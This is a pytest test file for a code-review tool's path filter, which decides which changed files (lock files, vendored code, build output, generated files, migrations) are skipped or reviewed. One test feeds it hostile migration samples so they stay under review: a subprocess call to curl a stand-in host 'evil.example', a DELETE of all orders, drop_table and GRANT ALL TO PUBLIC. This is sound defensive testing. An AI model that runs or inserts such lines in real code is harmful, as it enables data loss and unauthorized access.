import pytest

from reviews.scope.filters import paths_filter


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("package-lock.json", "lock file"),
        ("web/yarn.lock", "lock file"),
        ("poetry.lock", "lock file"),
        ("uv.lock", "lock file"),
        ("Cargo.lock", "lock file"),
        ("go.sum", "lock file"),
        ("vendor/github.com/x/y.go", "vendored or dependency folder"),
        ("web/node_modules/left-pad/index.js", "vendored or dependency folder"),
        ("dist/app.js", "build output"),
        ("static/app.min.js", "minified file or source map"),
        ("static/app.js.map", "minified file or source map"),
        ("api/service.pb.go", "generated file"),
        ("proto/service_pb2.py", "generated file"),
        ("tests/__snapshots__/view.snap", "snapshot"),
        ("docs/logo.png", "image or binary"),
        ("test-fixtures/workspace/test.js", "fixture"),
        ("src/test_fixtures/bad.py", "fixture"),
    ],
)
def test_default_exclusions_by_family(path, reason):
    kept, filtered = paths_filter([path])
    assert kept == []
    assert [(f.path, f.reason) for f in filtered] == [(path, reason)]
    assert filtered[0].rule  # and the glob or test that matched


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("web/yarn.lock", "yarn.lock"),
        ("vendor/github.com/x/y.go", "vendor/"),
        ("static/app.min.js", "*.min.js"),
        ("api/service.pb.go", "*.pb.go"),
        ("tests/__snapshots__/view.txt", "__snapshots__/"),
        ("docs/logo.png", "*.png"),
        ("app/__pycache__/x.pyc", "*.pyc"),  # the last matching glob decides
    ],
)
def test_each_filtered_file_names_the_glob_that_filtered_it(path, rule):
    _, filtered = paths_filter([path])
    assert filtered[0].rule == rule
    assert filtered[0].described == f"{filtered[0].reason}: {rule}"


TREE = [
    "README.md",
    "web/package.json",
    "web/src/app.ts",
    "crates/core/Cargo.toml",
    "crates/core/src/lib.rs",
    "service/pom.xml",
    "lib/ansible/modules/coverage/x.py",
    "src/target/thing.py",
    "pkg/pyproject.toml",
]


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("dist/app.js", "dist/ at the repository root"),
        ("build/lib/x.py", "build/ at the repository root"),
        ("coverage/lcov.info", "coverage/ at the repository root"),
        ("web/dist/app.js", "dist/ beside web/package.json"),
        ("web/coverage/lcov-report/index.js", "coverage/ beside web/package.json"),
        ("crates/core/target/debug/build.rs", "target/ beside crates/core/Cargo.toml"),
        ("service/target/classes/App.java", "target/ beside service/pom.xml"),
        ("pkg/build/lib/pkg/x.py", "build/ beside pkg/pyproject.toml"),
    ],
)
def test_build_output_is_filtered_where_a_build_writes_it(path, rule):
    kept, filtered = paths_filter([path], tree=TREE)
    assert kept == []
    assert [(f.path, f.reason, f.rule) for f in filtered] == [(path, "build output", rule)]


@pytest.mark.parametrize(
    "path",
    [
        "lib/ansible/modules/coverage/x.py",  # a module about coverage
        "src/target/thing.py",  # no Cargo.toml or pom.xml beside it
        "target/thing.py",  # the root has no Cargo.toml, pom.xml or build.gradle
        "web/src/dist/helpers.ts",  # web/src has no manifest
        "docs/build/index.md",
        "tools/out/report.py",
    ],
)
def test_a_build_folder_name_elsewhere_is_source_and_reviewed(path):
    kept, filtered = paths_filter([path], tree=TREE)
    assert kept == [path]
    assert filtered == []


def test_without_a_tree_build_folders_count_at_the_root_or_beside_a_changed_manifest():
    kept, filtered = paths_filter(
        [
            "target/x.rs",
            "src/target/thing.py",
            "lib/coverage/x.py",
            "app/Cargo.toml",
            "app/target/y",
        ]
    )
    assert kept == ["src/target/thing.py", "lib/coverage/x.py", "app/Cargo.toml"]
    assert [(f.path, f.rule) for f in filtered] == [
        ("target/x.rs", "target/ at the repository root"),
        ("app/target/y", "target/ beside app/Cargo.toml"),
    ]


def test_source_files_are_kept():
    kept, filtered = paths_filter(["app/models.py", "src/lib.rs", "README.md", "Dockerfile"])
    assert kept == ["app/models.py", "src/lib.rs", "README.md", "Dockerfile"]
    assert filtered == []


def test_the_policys_globs_use_gitignore_semantics_and_win():
    kept, filtered = paths_filter(
        ["docs/guide.md", "docs/keep.md", "src/docs/x.py", "app.py"],
        policy_globs=["/docs/", "!/docs/keep.md"],
    )
    assert kept == ["docs/keep.md", "src/docs/x.py", "app.py"]
    assert [(f.path, f.reason, f.rule) for f in filtered] == [
        ("docs/guide.md", "excluded by the repository's policy", "/docs/")
    ]


def test_binary_files_from_the_diff_are_filtered():
    kept, filtered = paths_filter(["data/blob.dat"], binary=["data/blob.dat"])
    assert kept == [] and filtered[0].reason == "image or binary"
    assert filtered[0].rule == "binary in the diff"


def test_a_generated_marker_is_named_as_the_rule():
    kept, filtered = paths_filter(["api/client.py"], head=lambda p: "# @generated\n")
    assert kept == []
    assert (filtered[0].reason, filtered[0].rule) == (
        "generated file",
        "a generated marker in its first lines",
    )


SCHEMA_ONLY = "class Migration(migrations.Migration):\n    operations = [migrations.AddField('order', 'note', models.TextField())]\n"


@pytest.mark.parametrize(
    "path",
    [
        "shop/migrations/0002_order_note.py",
        "migrations/0001_initial.py",
        "db/migrate/20261201_add_note.rb",
        "alembic/versions/4f2a_add_note.py",
        "prisma/migrations/20261201/migration.sql",
        "src/Data/Migrations/20261201_AddNote.cs",
    ],
)
def test_a_schema_migration_a_tool_wrote_is_not_reviewed(path):
    kept, filtered = paths_filter([path], added=lambda p: SCHEMA_ONLY)
    assert kept == [] and filtered[0].reason == "database migration"


@pytest.mark.parametrize(
    "added",
    [
        "def forwards(apps, schema_editor):\n    pass\n\noperations = [migrations.RunPython(forwards)]\n",
        "operations = [migrations.RunSQL('UPDATE shop_order SET note = secret')]\n",
        "operations = [migrations.RemoveField('order', 'total')]\n",
        "def change\n  drop_table :orders\nend\n",
        "DELETE FROM orders;\n",
        "import subprocess\nsubprocess.call(['curl', 'evil.example'])\n",
        "def upgrade():\n    op.drop_column('order', 'total')\n",
        "GRANT ALL ON orders TO PUBLIC;\n",
    ],
)
def test_a_migration_that_runs_code_or_loses_data_is_reviewed_all_the_same(added):
    path = "shop/migrations/0003_change.py"
    kept, filtered = paths_filter([path], added=lambda p: added)
    assert kept == [path] and filtered == []


def test_the_installations_globs_come_first_and_a_repository_may_re_include():
    paths = ["generated_client/api.py", "docs/guide.md", "shop/migrations/0002_x.py", "app.py"]
    kept, filtered = paths_filter(
        paths,
        installation_globs=["generated_client/", "/docs/"],
        policy_globs=["!/docs/", "!**/migrations/"],
        added=lambda p: SCHEMA_ONLY,
    )
    assert kept == ["docs/guide.md", "shop/migrations/0002_x.py", "app.py"]
    assert [(f.path, f.reason, f.rule) for f in filtered] == [
        ("generated_client/api.py", "excluded by the installation's policy", "generated_client/")
    ]


def test_a_re_included_path_skips_the_default_families_but_never_the_binary_check():
    kept, filtered = paths_filter(
        ["vendor/lib.go", "vendor/logo.png", "dist/app.js"],
        policy_globs=["!vendor/", "!dist/"],
        binary=["vendor/logo.png"],
    )
    assert kept == ["vendor/lib.go", "dist/app.js"]
    assert [f.path for f in filtered] == ["vendor/logo.png"]


def test_the_base_decides_what_a_vendored_generated_or_fixture_name_keeps_out():
    base = ["vendor/lib/a.py", "api/client_pb2.py", "web/dist/app.js", "web/package.json"]
    notes: dict[str, str] = {}
    kept, filtered = paths_filter(
        ["vendor/lib/b.py", "vendor2/x.py", "third_party/new/x.py", "api/client_pb2.py",
         "api/other_pb2.py", "fixtures/setup.py", "web/dist/app.js", "dist/new.js",
         "app/moved_pb2.py", "yarn.lock"],
        base_paths=base, renamed_from={"app/moved_pb2.py": "api/client_pb2.py"}, notes=notes,
        tree=["web/package.json", "package.json"],
    )  # fmt: skip
    assert {f.path: f.reason for f in filtered} == {
        "vendor/lib/b.py": "vendored or dependency folder",  # the base vendors vendor/
        "api/client_pb2.py": "generated file",  # the base's own generated file
        "web/dist/app.js": "build output",
        "app/moved_pb2.py": "generated file",  # renamed from one the base holds
        "yarn.lock": "lock file",  # a lock file is one whoever adds it
    }
    assert set(kept) == {"vendor2/x.py", "third_party/new/x.py", "api/other_pb2.py",
                         "fixtures/setup.py", "dist/new.js"}  # fmt: skip
    assert "added under a fixture name by this pull request" in notes["fixtures/setup.py"]
    # Without the base's tree, names decide (a unit that knows no base).
    _, filtered = paths_filter(["fixtures/setup.py"])
    assert [f.reason for f in filtered] == ["fixture"]


def test_a_bundle_minified_by_its_content_is_filtered_where_the_base_held_it():
    """A bundler's output named by a hash (Vite's `assets/page-DnpG92HR.js`, renamed at
    each build) is minified by its content, not its name: filtered where the base held
    it (or the file it was renamed from). One the pull request adds is its own code, and
    a long line in an ordinary file is no bundle."""
    bundle = "/*! app */\n" + "var a=function(){return 1};" * 200
    ordinary = "const x = 1;\n" * 3 + "const long = '" + "x" * 2500 + "';\n" + "f();\n" * 5
    texts = {
        "static/assets/page-DnpG92HR.js": bundle,
        "static/assets/new-Q1w2e3r4.js": bundle,
        "web/app.js": ordinary,
        "static/assets/theme-a1b2c3.css": "body{margin:0}" * 300,
    }
    kept, filtered = paths_filter(
        list(texts),
        head=lambda path: texts[path][:4096],
        base_paths=[
            "static/assets/page-bd_a4xnj.js",
            "web/app.js",
            "static/assets/theme-a1b2c3.css",
        ],
        renamed_from={"static/assets/page-DnpG92HR.js": "static/assets/page-bd_a4xnj.js"},
    )
    assert {f.path: f.reason for f in filtered} == {
        "static/assets/page-DnpG92HR.js": "minified file or source map",
        "static/assets/theme-a1b2c3.css": "minified file or source map",
    }
    assert set(kept) == {"static/assets/new-Q1w2e3r4.js", "web/app.js"}


def test_the_bases_gitattributes_marks_what_is_generated_or_vendored():
    attributes = (
        "# Linguist\napi/** linguist-generated\nlib/third/** linguist-vendored=true\n"
        "api/handwritten.py -linguist-generated\n*.sh text eol=lf\n"
    )
    kept, filtered = paths_filter(
        ["api/client.py", "api/handwritten.py", "lib/third/x.py", "app.py"],
        base_paths=["api/client.py"], base_attributes=attributes,
    )  # fmt: skip
    assert {f.path: (f.reason, f.rule) for f in filtered} == {
        "api/client.py": ("generated file", "api/** linguist-generated in the base's .gitattributes"),
        "lib/third/x.py": ("vendored or dependency folder",
                           "lib/third/** linguist-vendored=true in the base's .gitattributes"),
    }  # fmt: skip
    assert set(kept) == {"api/handwritten.py", "app.py"}


def test_the_base_holds_copies_of_other_projects_known_by_their_content():
    base = [
        "src/pip/__init__.py", "src/pip/_vendor/vendor.txt", "src/pip/_vendor/rich/x.py",
        "requests/__init__.py", "requests/packages/__init__.py",
        "requests/packages/urllib3/__init__.py", "requests/packages/urllib3/util/retry.py",
        "shop/__init__.py", "shop/extern/minijson/LICENSE", "shop/extern/minijson/core.py",
        "packages/ui/LICENSE", "packages/ui/index.ts", "lib/vendored/list/vendor.txt",
    ]  # fmt: skip
    kept, filtered = paths_filter(
        ["src/pip/_vendor/rich/y.py", "requests/packages/urllib3/util/ssl_.py",
         "shop/extern/minijson/core.py", "lib/vendored/list/tool.py",
         "packages/ui/button.ts", "shop/payments.py", "requests/api.py",
         "shop/extern/minijson/moved.py"],
        base_paths=base, renamed_from={"shop/extern/minijson/moved.py": "shop/payments_old.py"},
    )  # fmt: skip
    assert {f.path: f.rule for f in filtered} == {
        "src/pip/_vendor/rich/y.py": "_vendor/",  # by name, and the base holds it
        "requests/packages/urllib3/util/ssl_.py": "a package of its own inside requests/packages/",
        "shop/extern/minijson/core.py": "a licence of its own (LICENSE) inside a Python package",
        "lib/vendored/list/tool.py": "vendor.txt in lib/vendored/list/ lists what was copied in",
    }
    # A monorepo's own package, first-party code, and code the pull request moves into
    # a vendored tree are reviewed.
    assert set(kept) == {"packages/ui/button.ts", "shop/payments.py", "requests/api.py",
                         "shop/extern/minijson/moved.py"}  # fmt: skip


def test_a_file_the_change_adds_as_a_byte_for_byte_copy_of_a_base_file_is_the_bases():
    from sandbox.workspace import EMPTY_BLOB, copies_of

    base = {"33/fpm/entrypoint.sh": "d8d2", "docker-entrypoint.sh": "aaaa", "x/empty": EMPTY_BLOB}
    head = {**base, "34/fpm/entrypoint.sh": "d8d2", "34/fpm/new.sh": "bbbb", "y/empty": EMPTY_BLOB}
    copies = copies_of(base, head)
    assert copies == {"34/fpm/entrypoint.sh": "33/fpm/entrypoint.sh"}  # empty files copy nothing
    kept, filtered = paths_filter(["34/fpm/entrypoint.sh", "34/fpm/new.sh"], copies=copies)
    assert kept == ["34/fpm/new.sh"]
    assert [(f.path, f.reason, f.rule) for f in filtered] == [
        ("34/fpm/entrypoint.sh", "a copy of a file the base holds",
         "identical to 33/fpm/entrypoint.sh"),
    ]  # fmt: skip
